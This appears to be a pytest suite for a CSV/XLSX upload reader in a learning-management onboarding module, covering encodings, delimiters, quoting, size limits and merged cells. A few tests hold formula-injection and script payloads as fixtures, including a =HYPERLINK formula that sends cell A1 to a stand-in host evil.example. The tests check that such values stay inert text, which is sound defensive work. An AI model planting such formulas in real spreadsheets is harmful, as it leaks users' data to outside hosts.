"""Reading files of users: CSV in the encodings and separators people's programs write, XLSX with
formulas and merged cells, and files that are not tables at all. No Flask, no database."""

from __future__ import annotations

import codecs
import io
import unicodedata
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.onboarding import reading
from lms.onboarding.problems import FileRefused, Problem
from lms.onboarding.reading import read_table
from tests.onboarding.files import csv_bytes, patch_sheet, with_computed, xlsx_bytes

HEADER_RU = ["ФИО", "Эл. почта", "Регион"]
HEADER_EN = ["full_name", "email", "region"]


def refusal(content: bytes) -> Problem:
    with pytest.raises(FileRefused) as caught:
        read_table(content)
    return caught.value.problem


def values(table: reading.Table) -> list[tuple[int, tuple[str, ...]]]:
    return [(row.number, row.values) for row in table.rows]


# --- CSV ----------------------------------------------------------------------------------------


def test_utf8_csv_with_commas():
    table = read_table(csv_bytes([HEADER_EN, ["Иванов Иван", "ivanov@example.ru", "77"]]))
    assert (table.kind, table.encoding, table.delimiter) == ("csv", "utf-8", ",")
    assert table.headings == tuple(HEADER_EN)
    assert values(table) == [(2, ("Иванов Иван", "ivanov@example.ru", "77"))]
    assert table.notes == []


def test_utf8_bom_and_semicolons_as_excel_writes_csv_utf8():
    content = codecs.BOM_UTF8 + csv_bytes(
        [HEADER_RU, ["Петрова Анна", "anna@example.ru", "50"]], delimiter=";"
    )
    table = read_table(content)
    assert table.headings == tuple(HEADER_RU)  # no BOM glued to the first heading
    assert (table.encoding, table.delimiter) == ("utf-8", ";")
    assert values(table) == [(2, ("Петрова Анна", "anna@example.ru", "50"))]


def test_windows_1251_csv_of_russian_excel():
    content = csv_bytes(
        [HEADER_RU, ["Ёлкина Юлия", "elkina@example.ru", "г. Москва"]], delimiter=";", encoding="cp1251"
    )
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")
    table = read_table(content)
    assert table.encoding == "windows-1251"
    assert values(table) == [(2, ("Ёлкина Юлия", "elkina@example.ru", "г. Москва"))]
    assert table.notes == [Problem("read_as_cp1251")]


def test_a_utf8_file_with_a_stray_byte_is_refused_naming_its_line_not_read_as_windows_1251():
    # Read as Windows-1251 every Cyrillic letter would become two others ("Петров" -> "РџРµС‚СЂРѕРІ").
    content = csv_bytes(
        [HEADER_EN, ["Петров Пётр", "p@example.ru", "77"], ["Сидорова Анна", "a@example.ru", "78"]]
    )
    content += b"\xd0 \xd0\xb5,e@example.ru,50\r\n"  # a letter cut in half, as a bad paste leaves it
    assert refusal(content) == Problem("broken_utf8", line=4)


def test_utf16_tab_separated_unicode_text_of_excel():
    content = codecs.BOM_UTF16_LE + csv_bytes(
        [HEADER_RU, ["Щукин Яков", "y@example.ru", "78"]], delimiter="\t"
    ).decode("utf-8").encode("utf-16-le")
    table = read_table(content)
    assert (table.encoding, table.delimiter) == ("utf-16", "\t")
    assert values(table) == [(2, ("Щукин Яков", "y@example.ru", "78"))]


def test_delimiter_is_sniffed_from_the_header_not_from_commas_inside_names():
    # Semicolons separate; the names hold commas. Counting commas would pick the wrong one.
    text = "ФИО;Эл. почта;Регион\r\nИванов, Иван;i@example.ru;77\r\nПетров, Пётр, мл.;p@example.ru;78\r\n"
    table = read_table(text.encode("utf-8"))
    assert table.delimiter == ";"
    assert values(table)[1] == (3, ("Петров, Пётр, мл.", "p@example.ru", "78"))


def test_quoted_fields_hold_delimiters_quotes_and_line_breaks():
    text = (
        'full_name,email,region\r\n"Иванов, ""Ваня""\r\nИван",i@example.ru,77\r\n'
        '"Сидоров",s@example.ru,"78"\r\n'
    )
    table = read_table(text.encode("utf-8"))
    # One record per row as a spreadsheet shows it, even when a cell holds a line break.
    assert values(table) == [
        (2, ('Иванов, "Ваня" Иван', "i@example.ru", "77")),
        (3, ("Сидоров", "s@example.ru", "78")),
    ]


@pytest.mark.parametrize(
    "broken",
    [
        '"Иванов Иван,i@example.ru,77',  # never closed: the rest of the file would be its name
        '"Иванов Иван,i@example.ru,77\r\nB B,"b@example.ru",78',  # closed by the next row's quote
    ],
)
def test_a_stray_quote_refuses_the_file_naming_the_line_its_row_starts_on(broken):
    text = f"full_name,email,region\r\nA A,a@example.ru,77\r\n{broken}\r\nC C,c@example.ru,50\r\n"
    assert refusal(text.encode("utf-8")) == Problem("broken_csv", row=3)


def test_empty_rows_are_skipped_but_keep_the_numbering():
    content = csv_bytes(
        [HEADER_EN, ["A A", "a@example.ru", "77"], [], ["", "", ""], ["B B", "b@example.ru", "78"]]
    )
    assert [row.number for row in read_table(content).rows] == [2, 5]


def test_a_title_row_above_the_header_is_ignored_and_said_so():
    content = csv_bytes([["Кандидаты, весна"], [], HEADER_RU, ["A A", "a@example.ru", "77"]], delimiter=";")
    table = read_table(content)
    assert (table.header_row, table.headings) == (3, tuple(HEADER_RU))
    assert values(table) == [(4, ("A A", "a@example.ru", "77"))]
    assert table.notes == [Problem("rows_above_header", rows=[1])]


def test_cells_are_trimmed_with_one_space_between_words_and_invisible_characters_dropped():
    content = csv_bytes([HEADER_EN, ["  Иванов \u00a0 Иван\u200b ", " a@example.ru\ufeff", " 77 "]])
    assert values(read_table(content)) == [(2, ("Иванов Иван", "a@example.ru", "77"))]


def test_letters_are_composed_whatever_program_wrote_them():
    decomposed = unicodedata.normalize("NFD", "Йоркин Ёж")
    assert decomposed != "Йоркин Ёж"
    row = read_table(csv_bytes([HEADER_EN, [decomposed, "a@example.ru", "77"]])).rows[0]
    assert row.values[0] == "Йоркин Ёж"


def test_a_csv_row_with_more_values_than_columns_is_a_row_problem():
    text = "full_name,email,region\r\nИванов, Иван,i@example.ru,77\r\nПетров Пётр,p@example.ru,78,\r\n"
    rows = read_table(text.encode("utf-8")).rows
    assert rows[0].row_problem == Problem("extra_values", count=4, columns=3)
    assert rows[1].row_problem is None  # a trailing empty value is harmless


def test_hostile_cells_are_text():
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "<script>alert(1)</script>",
        "+7(999)",
        "@SUM(1)",
    ]
    content = csv_bytes([HEADER_EN, *([name, "x@example.ru", "77"] for name in hostile)])
    assert [row.values[0] for row in read_table(content).rows] == hostile


def test_control_characters_in_a_cell_are_a_cell_problem():
    rows = read_table(b"full_name,email,region\r\nA\x07B,a@example.ru,77\r\n").rows
    assert rows[0].values[0] == ""
    assert rows[0].problems == {0: Problem("control_characters")}


def test_a_huge_cell_is_a_cell_problem():
    rows = read_table(csv_bytes([HEADER_EN, ["x" * 5000, "a@example.ru", "77"]])).rows
    assert rows[0].problems == {0: Problem("cell_too_long", limit=reading.MAX_CELL_CHARS)}


def test_unknown_encoding_is_refused():
    # 0x98 is the one byte Windows-1251 leaves undefined, and this is not UTF-8 either.
    assert refusal(b"full_name,email,region\r\n\x98\xff,a@example.ru,77\r\n").code == "encoding"


def test_text_with_nul_bytes_is_not_a_table():
    assert refusal(b"full_name,email\x00,region\r\n").code == "not_a_table"


# --- Limits and file types ----------------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused():
    content = csv_bytes([HEADER_EN]) + b"x" * reading.MAX_BYTES
    assert refusal(content) == Problem("too_big", megabytes=5)


def test_more_rows_than_the_limit_are_refused():
    rows = [[f"User {i}", f"u{i}@example.ru", "77"] for i in range(reading.MAX_ROWS + 1)]
    assert refusal(csv_bytes([HEADER_EN, *rows])) == Problem("too_many_rows", limit=reading.MAX_ROWS)
    assert len(read_table(csv_bytes([HEADER_EN, *rows[:-1]])).rows) == reading.MAX_ROWS


@pytest.mark.parametrize("content", [b"", b"   \r\n\r\n", codecs.BOM_UTF8 + b"\r\n;;\r\n"])
def test_an_empty_file_is_refused(content):
    assert refusal(content).code == "empty"


def test_old_excel_is_refused_with_what_to_do():
    assert refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)).code == "old_excel"


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", b"\x89PNG\r\n\x1a\n" + bytes(40), b"\x1f\x8b\x08\x00" + bytes(20)],
    ids=["pdf", "png", "gzip"],
)
def test_other_binary_files_are_refused(content):
    assert refusal(content).code == "not_a_table"


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_opendocument_and_other_zips_are_refused():
    ods = _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"})
    assert refusal(ods).code == "opendocument"
    assert refusal(_zip({"word/document.xml": b"<x/>"})).code == "not_a_table"
    assert refusal(b"PK\x03\x04 truncated").code == "not_a_table"


def test_a_damaged_workbook_is_refused():
    assert (
        refusal(_zip({"xl/workbook.xml": b"<not really>", "[Content_Types].xml": b"??"})).code
        == "broken_xlsx"
    )


def test_a_workbook_that_unpacks_to_too_much_is_refused(monkeypatch):
    content = xlsx_bytes([HEADER_EN, ["A A", "a@example.ru", 77]])
    monkeypatch.setattr(reading, "MAX_UNPACKED_BYTES", 2000)
    assert refusal(content) == Problem("too_big_unpacked", megabytes=0)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_garbage_bytes_give_a_table_or_a_refusal_never_a_crash(content):
    try:
        table = read_table(content)
    except FileRefused as refused:
        assert refused.problem.code in {
            "empty",
            "encoding",
            "not_a_table",
            "old_excel",
            "broken_xlsx",
            "broken_csv",
            "broken_utf8",
        }
    else:
        assert table.kind == "csv"


@settings(max_examples=100, deadline=None)
@given(st.binary(min_size=1, max_size=300))
def test_garbage_inside_a_zip_is_refused_not_a_crash(junk):
    content = _zip({"xl/workbook.xml": junk, "xl/worksheets/sheet1.xml": junk})
    assert refusal(content).code == "broken_xlsx"


# --- XLSX ---------------------------------------------------------------------------------------


def test_xlsx_first_sheet_numbers_as_codes():
    content = xlsx_bytes(
        [HEADER_RU, ["Иванов Иван", "i@example.ru", 77], ["Петров Пётр", "p@example.ru", 7.0]]
    )
    table = read_table(content)
    assert (table.kind, table.sheet, table.header_row) == ("xlsx", "Люди", 1)
    assert values(table) == [
        (2, ("Иванов Иван", "i@example.ru", "77")),
        (3, ("Петров Пётр", "p@example.ru", "7")),
    ]


def test_xlsx_formulas_give_their_computed_values():
    content = xlsx_bytes(
        [
            ["Фамилия", "Имя", "ФИО", "Эл. почта", "Регион"],
            ["Иванов", "Иван", '=A2&" "&B2', "i@example.ru", "=70+7"],
            ["Петров", "", '=IF(B3="","",A3)', "p@example.ru", 78],
        ]
    )
    content = with_computed(content, {"C2": "Иванов Иван", "E2": "77", "C3": ""})
    rows = read_table(content).rows
    assert rows[0].values == ("Иванов", "Иван", "Иванов Иван", "i@example.ru", "77")
    # A formula that computed "" is an empty cell, not a formula without a value.
    assert rows[1].values[2] == "" and rows[1].problems == {}


def test_xlsx_formula_without_computed_value_is_refused_cell_by_cell():
    # openpyxl (like other programs that do not calculate) writes formulas with no value.
    content = xlsx_bytes(
        [HEADER_RU, ["Иванов Иван", "i@example.ru", "=70+7"], ["Петров Пётр", "p@example.ru", 78]]
    )
    rows = read_table(content).rows
    assert rows[0].problems == {2: Problem("formula_without_value", cell="C2")}
    assert rows[1].problems == {}


def test_xlsx_error_values_are_cell_problems():
    content = with_computed(
        xlsx_bytes([HEADER_EN, ["A A", "a@example.ru", "=VLOOKUP(1,Z1:Z2,2)"]]), {"C2": "#N/A"}
    )
    assert read_table(content).rows[0].problems == {2: Problem("excel_error", cell="C2", value="#N/A")}


def test_xlsx_text_that_looks_like_a_formula_stays_text():
    content = xlsx_bytes(
        [HEADER_EN, ['=HYPERLINK("http://evil.example","x")', "a@example.ru", 77]], text_cells=["A2"]
    )
    row = read_table(content).rows[0]
    assert row.values[0] == '=HYPERLINK("http://evil.example","x")' and row.problems == {}


def test_xlsx_merged_header_cells_refuse_the_file_naming_them():
    content = xlsx_bytes(
        [["ФИО", None, "Эл. почта", "Регион"], ["Иванов", "Иван", "i@example.ru", 77]], merge=["A1:B1"]
    )
    assert refusal(content) == Problem("merged_header", cells="A1:B1")


def test_xlsx_merged_title_above_the_header_is_fine():
    content = xlsx_bytes([["Кандидаты", None, None], HEADER_RU, ["A A", "a@example.ru", 77]], merge=["A1:C1"])
    table = read_table(content)
    assert table.header_row == 2 and values(table) == [(3, ("A A", "a@example.ru", "77"))]


def test_xlsx_merged_data_cells_are_problems_below_their_first_cell():
    # A region typed once for three people, merged down: rows 3 and 4 would silently lack it.
    content = xlsx_bytes(
        [
            HEADER_RU,
            ["A A", "a@example.ru", 77],
            ["B B", "b@example.ru", None],
            ["C C", "c@example.ru", None],
        ],
        merge=["C2:C4"],
    )
    rows = read_table(content).rows
    assert rows[0].problems == {} and rows[0].values[2] == "77"
    assert rows[1].problems == {2: Problem("merged_cell", cell="C3", range="C2:C4")}
    assert rows[2].problems == {2: Problem("merged_cell", cell="C4", range="C2:C4")}


def test_xlsx_only_the_first_sheet_is_read_and_said_so():
    table = read_table(xlsx_bytes([HEADER_EN, ["A A", "a@example.ru", 77]], more_sheets=["Архив"]))
    assert values(table) == [(2, ("A A", "a@example.ru", "77"))]
    assert table.notes == [Problem("first_sheet_only", sheet="Люди", count=2)]


def test_xlsx_a_hidden_sheet_before_the_table_is_passed_over():
    content = xlsx_bytes(
        [HEADER_EN, ["A A", "a@example.ru", 77]], hidden_first=[["код", "регион"], ["77", "Москва"]]
    )
    table = read_table(content)
    assert values(table) == [(2, ("A A", "a@example.ru", "77"))]
    assert table.notes == [Problem("first_sheet_only", sheet="Люди", count=2)]


def test_xlsx_with_a_wrong_stored_size_is_read_whole():
    content = xlsx_bytes([HEADER_EN, ["A A", "a@example.ru", 77], ["B B", "b@example.ru", 78]])
    content = patch_sheet(
        content, lambda xml: xml.replace('<dimension ref="A1:C3" />', '<dimension ref="A1" />')
    )
    assert [row.number for row in read_table(content).rows] == [2, 3]


def test_xlsx_empty_rows_skipped_numbers_as_excel_shows_them():
    content = xlsx_bytes(
        [HEADER_EN, ["A A", "a@example.ru", 77], [None, None, None], [], ["B B", "b@example.ru", 78]]
    )
    assert [row.number for row in read_table(content).rows] == [2, 5]


def test_xlsx_too_many_rows_refused():
    rows = [[f"User {i}", f"u{i}@example.ru", 77] for i in range(reading.MAX_ROWS + 1)]
    assert refusal(xlsx_bytes([HEADER_EN, *rows])) == Problem("too_many_rows", limit=reading.MAX_ROWS)
